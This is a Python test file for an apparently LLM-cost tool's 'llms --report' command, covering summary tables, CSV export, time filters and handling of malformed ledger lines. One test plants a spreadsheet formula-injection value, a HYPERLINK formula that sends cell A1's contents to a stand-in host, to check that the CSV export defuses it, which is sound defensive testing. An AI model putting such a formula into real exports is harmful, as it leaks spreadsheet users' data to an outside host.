"""`llms --report`: tables, CSV, filters and --since over a ledger file, in a fixed time zone."""

import csv
import io
import json
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest

from llms.config import parse_config
from llms.commands.report import parse_since, run_report

BERLIN = ZoneInfo("Europe/Berlin")
NOW = datetime(2026, 11, 23, 12, 0, tzinfo=BERLIN)


def line(ts, provider="openai", model="gpt-4o", status="ok", prompt=1000, completion=100, cost=0.0035,
         provenance="computed", ms=800.0, rid="r"):
    usage = {"prompt_tokens": prompt, "completion_tokens": completion, "total_tokens": prompt + completion,
             "prompt_tokens_details": {"cached_tokens": 0, "cache_write_tokens": 0},
             "completion_tokens_details": {"reasoning_tokens": 0}}
    return {"timestamp": ts, "request_id": rid, "client": "api", "provider": provider, "model": model,
            "provider_model": model, "endpoint": "/v1/chat/completions", "is_streaming": False, "status": status,
            "error": {"message": "bad gateway", "status": 502} if status == "error" else None,
            "finish_reason": "stop", "usage": usage, "cost_usd": cost, "cost_provenance": provenance,
            "prices": None, "response_ms": ms, "ttft_ms": None}


@pytest.fixture
def config(tmp_path):
    lines = [
        line("2026-11-20T09:15:00.000+01:00", rid="old"),
        line("2026-11-23T10:05:00.000+01:00", rid="a"),
        line("2026-11-23T10:40:00.000+01:00", provider="anthropic", model="claude-sonnet-4-5", cost=0.5, ms=2000, rid="b"),
        line("2026-11-23T11:10:00.000+01:00", status="error", prompt=0, completion=0, cost=None, provenance=None, rid="c"),
        line("2026-11-23T11:20:00.000+01:00", provider="groq", model="kimi-k2", cost=None, provenance="unpriced", rid="d"),
    ]
    text = "".join(json.dumps(item) + "\n" for item in lines) + '{"timestamp": "2026-11-23T11:30'
    (tmp_path / "usage.jsonl").write_text(text)
    raw = {"providers": {}, "ledger": {"enabled": True, "path": "usage.jsonl"}}  # relative: next to llms.json
    return parse_config(json.dumps(raw), tmp_path / "llms.json", {})


def report(config, fmt, since=None, model=None, provider=None):
    out, err = io.StringIO(), io.StringIO()
    assert run_report(config, fmt, since, model, provider, out, err, now=NOW, tz=BERLIN) == 0
    return out.getvalue(), err.getvalue()


def test_summary_shows_totals_and_aligned_tables_by_provider_and_model(config, tmp_path):
    out, err = report(config, "summary")
    # 800 ms is in histogram bucket floor(8·log2 800) = 77 → 2^(77.5/8) = 824.6; 2000 ms → 87 → 1961.
    # The cost-tracking guide's block first, by hand: $0.50 + $0.007 over 5 requests and 4,400 tokens.
    assert out.splitlines() == [
        '============================================================',
        'LLMS COST ANALYSIS SUMMARY',
        '============================================================',
        'Time Period: the first request to 2026-11-23T12:00:00+01:00',
        'Total Cost: $0.507000',
        'Total Requests: 5',
        'Total Tokens: 4,400',
        'Average Cost per Request: $0.101400',
        'Average Cost per 1K Tokens: $0.115227',
        '',
        'COST BY PROVIDER:',
        '----------------------------------------',
        'anthropic    | $0.500000 |     1 req |    1,100 tokens',
        'openai       | $0.007000 |     3 req |    2,200 tokens',
        'groq         | $0.000000 |     1 req |    1,100 tokens | 1 unpriced (not counted)',
        '',
        'TOP MODELS BY COST:',
        '--------------------------------------------------',
        'anthropic/claude-sonnet-4-5 | $0.500000 |     1 req |    1,100 tokens',
        'openai/gpt-4o            | $0.007000 |     3 req |    2,200 tokens',
        'groq/kimi-k2             | $0.000000 |     1 req |    1,100 tokens | 1 unpriced (not counted)',
        '',
        f"Ledger {tmp_path / 'usage.jsonl'} — all time",
        "Requests 5 (1 errors, 0 aborted) · tokens 4,000 in (0 cached) / 400 out (0 reasoning) · cost $0.51 (+1 unpriced)"
        " · p50 825 ms · p95 1,961 ms",
        "",
        "By provider",
        "provider   requests  errors  input  output    cost       p50       p95",
        "---------  --------  ------  -----  ------  ------  --------  --------",
        "anthropic         1       0  1,000     100   $0.50  1,961 ms  1,961 ms",
        "openai            3       1  2,000     200  $0.007    825 ms    825 ms",
        "groq              1       0  1,000     100       —    825 ms    825 ms",
        "",
        "By model",
        "provider   model              requests  errors  input  output    cost       p50       p95",
        "---------  -----------------  --------  ------  -----  ------  ------  --------  --------",
        "anthropic  claude-sonnet-4-5         1       0  1,000     100   $0.50  1,961 ms  1,961 ms",
        "openai     gpt-4o                    3       1  2,000     200  $0.007    825 ms    825 ms",
        "groq       kimi-k2                   1       0  1,000     100       —    825 ms    825 ms",
    ]
    assert err == f"llms: warning: {tmp_path / 'usage.jsonl'}:6: incomplete last line (the writer stopped mid-line); skipped\n"


def test_since_a_relative_span_and_filters_narrow_the_rows(config):
    out, _ = report(config, "csv", since="24h", provider="openai")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["request_id"] for r in rows] == ["a", "c"]
    assert rows[0]["cost_usd"] == "0.0035" and rows[0]["input_tokens"] == "1000" and rows[1]["cost_usd"] == ""
    assert rows[1]["error"] == "bad gateway"


def test_model_filter_matches_the_alias(config):
    out, _ = report(config, "csv", model="claude-sonnet-4-5")
    assert [r["request_id"] for r in csv.DictReader(io.StringIO(out))] == ["b"]


def test_hourly_lists_every_hour_of_the_last_day_zero_filled(config):
    out, _ = report(config, "hourly")
    rows = out.splitlines()[3:]
    assert len(rows) == 25  # 11:00 yesterday … 12:00 today, both partial
    assert rows[-3].split()[:4] == ["2026-11-23", "10:00+01:00", "2", "0"]
    assert rows[-2].split()[:4] == ["2026-11-23", "11:00+01:00", "2", "1"]
    assert rows[0].split()[2:4] == ["0", "0"]


def test_detailed_prints_one_row_per_request_in_local_time(config):
    out, _ = report(config, "detailed", since="2026-11-23")
    rows = out.splitlines()[2:]
    assert len(rows) == 4
    assert rows[0].split() == ["2026-11-23", "10:05:00", "openai", "gpt-4o", "unknown", "1,000", "0", "0", "100",
                               "$0.0035", "800", "ok"]


@pytest.mark.parametrize("text, expected", [
    ("7d", "2026-11-16T12:00:00+01:00"), ("24h", "2026-11-22T12:00:00+01:00"), ("2w", "2026-11-09T12:00:00+01:00"),
    ("2026-11-01", "2026-11-01T00:00:00+01:00"), ("2026-10-25T01:30", "2026-10-25T01:30:00+02:00"),
])
def test_since_accepts_spans_dates_and_times(text, expected):
    assert parse_since(text, NOW, BERLIN).isoformat() == expected


def test_a_bad_since_is_refused_with_what_to_write(config):
    out, err = io.StringIO(), io.StringIO()
    assert run_report(config, "summary", "last week", None, None, out, err, now=NOW, tz=BERLIN) == 2
    assert "--since 'last week': expected 7d, 24h, 30m, 2w" in err.getvalue()


@pytest.mark.parametrize("fmt", ["summary", "detailed", "csv", "hourly"])
def test_lines_with_wrongly_typed_fields_are_skipped_with_warnings_and_every_format_still_reports(config, tmp_path, fmt):
    path = tmp_path / "usage.jsonl"
    text = path.read_text().rsplit("\n", 1)[0] + "\n"  # without the torn last line
    bad = [line("2026-11-23T11:40:00.000+01:00", rid="e") | {"response_ms": "abc"},
           line("2026-11-23T11:41:00.000+01:00", rid="f") | {"cost_usd": "0.1"},
           line("2026-11-23T11:42:00.000+01:00", rid="g") | {"provider": 5}]
    path.write_text(text + "".join(json.dumps(item) + "\n" for item in bad))
    out, err = report(config, fmt, since="24h")
    assert err.splitlines() == [
        f'llms: warning: {path}:6: response_ms: expected a number from 0 to 604800000 or null, got "abc"; skipped',
        f'llms: warning: {path}:7: cost_usd: expected a number from 0 to 100000 or null, got "0.1"; skipped',
        f"llms: warning: {path}:8: provider: expected a text of at most 200 characters or null, got 5; skipped",
    ]
    assert not any(rid in out for rid in (",e,", ",f,", ",g,"))
    if fmt == "summary":
        assert out.split("\nLedger ", 1)[1].splitlines()[1].startswith("Requests 4 (1 errors, 0 aborted)")


def test_csv_defuses_a_formula_and_ends_rows_in_crlf(tmp_path):
    formula = line("2026-11-23T10:05:00.000+01:00", rid="f") | {"finish_reason": '=HYPERLINK("http://x/?"&A1,"open")'}
    (tmp_path / "usage.jsonl").write_text(json.dumps(formula) + "\n")
    config = parse_config(json.dumps({"providers": {}, "ledger": {"enabled": True, "path": "usage.jsonl"}}),
                          tmp_path / "llms.json", {})
    out, _ = report(config, "csv")
    header, row = out.split("\r\n")[:2]
    assert header.startswith("timestamp,request_id,client,provider,model,provider_model,status,finish_reason,")
    assert ',"\'=HYPERLINK(""http://x/?""&A1,""open"")",' in row
    assert [r["finish_reason"] for r in csv.DictReader(io.StringIO(out))] == ['\'=HYPERLINK("http://x/?"&A1,"open")']


def test_model_filter_matches_the_provider_model_too_as_the_analytics_api_does(tmp_path):
    served = line("2026-11-23T10:05:00.000+01:00", rid="p") | {"provider_model": "gpt-4o-2024-08-06"}
    (tmp_path / "usage.jsonl").write_text(json.dumps(served) + "\n")
    config = parse_config(json.dumps({"providers": {}, "ledger": {"enabled": True, "path": "usage.jsonl"}}),
                          tmp_path / "llms.json", {})
    for model in ("gpt-4o", "gpt-4o-2024-08-06"):
        out, _ = report(config, "csv", model=model)
        assert [r["request_id"] for r in csv.DictReader(io.StringIO(out))] == ["p"]


def test_summary_by_app_groups_requests_by_client_app_most_expensive_first(tmp_path):
    lines = [line("2026-11-23T10:00:00.000+01:00", rid="x", cost=0.25) | {"client_app": "claude-code"},
             line("2026-11-23T10:01:00.000+01:00", rid="y", cost=0.5) | {"client_app": "codex"},
             line("2026-11-23T10:02:00.000+01:00", rid="z", cost=0.25) | {"client_app": "claude-code"},
             line("2026-11-23T10:03:00.000+01:00", rid="w", cost=0.001) | {"client": "app"}]
    (tmp_path / "usage.jsonl").write_text("".join(json.dumps(item) + "\n" for item in lines))
    config = parse_config(json.dumps({"providers": {}, "ledger": {"enabled": True, "path": "usage.jsonl"}}),
                          tmp_path / "llms.json", {})
    out, err = io.StringIO(), io.StringIO()
    assert run_report(config, "summary", None, None, None, out, err, now=NOW, tz=BERLIN, by="app") == 0
    block = out.getvalue().split("\nBy app\n")[1].split("\n\n")[0].splitlines()
    assert [row.split()[:4] for row in block[2:]] == [["claude-code", "2", "0", "2,000"], ["codex", "1", "0", "1,000"],
                                                     ["llms", "chat", "1", "0"]]
    assert [row.split()[5] for row in block[2:4]] == ["$0.50", "$0.50"]


def _by_app_block(config, since=None, model=None, provider=None) -> tuple[list[str], str]:
    out, err = io.StringIO(), io.StringIO()
    assert run_report(config, "summary", since, model, provider, out, err, now=NOW, tz=BERLIN, by="app") == 0
    return out.getvalue().split("\nBy app\n")[1].split("\n\n")[0].splitlines(), err.getvalue()


@pytest.mark.parametrize("since, model, provider", [(None, None, None), ("2026-11-23T10:30", None, None),
                                                    (None, "gpt-4o", None), ("24h", None, "openai")])
def test_by_app_from_the_index_is_what_the_lines_give(tmp_path, since, model, provider):
    apps = ("claude-code", "codex", None, "openai-python")
    lines = [line(f"2026-11-{20 + i % 4}T{8 + i % 5:02d}:{i * 7 % 60:02d}:00.000+01:00", rid=f"r{i}",
                  provider=("openai", "anthropic")[i % 2], model=("gpt-4o", "claude")[i % 2],
                  cost=None if i % 6 == 0 else 0.000173 * (i % 9 + 1), provenance="unpriced" if i % 6 == 0 else "computed",
                  status=("ok", "ok", "error")[i % 3], ms=100.0 + 37 * i) | {"client_app": apps[i % 3 + (i % 5 == 0)],
                                                                                "client": ("api", "app")[i % 2]}
             for i in range(60)]
    (tmp_path / "usage.jsonl").write_text("".join(json.dumps(item) + "\n" for item in lines) + "not json\n")
    config = parse_config(json.dumps({"providers": {}, "ledger": {"enabled": True, "path": "usage.jsonl"}}),
                          tmp_path / "llms.json", {})
    indexed, indexed_err = _by_app_block(config, since, model, provider)
    (tmp_path / "usage.index.sqlite").unlink()
    (tmp_path / "usage.index.sqlite").mkdir()  # the index cannot be used: every line is read
    scanned, scanned_err = _by_app_block(config, since, model, provider)
    assert indexed == scanned and len(indexed) > 3
    assert "reading every line instead" in scanned_err and "reading every line" not in indexed_err
    assert indexed_err.count("not valid JSON") == 1  # said once, by the summary's pass
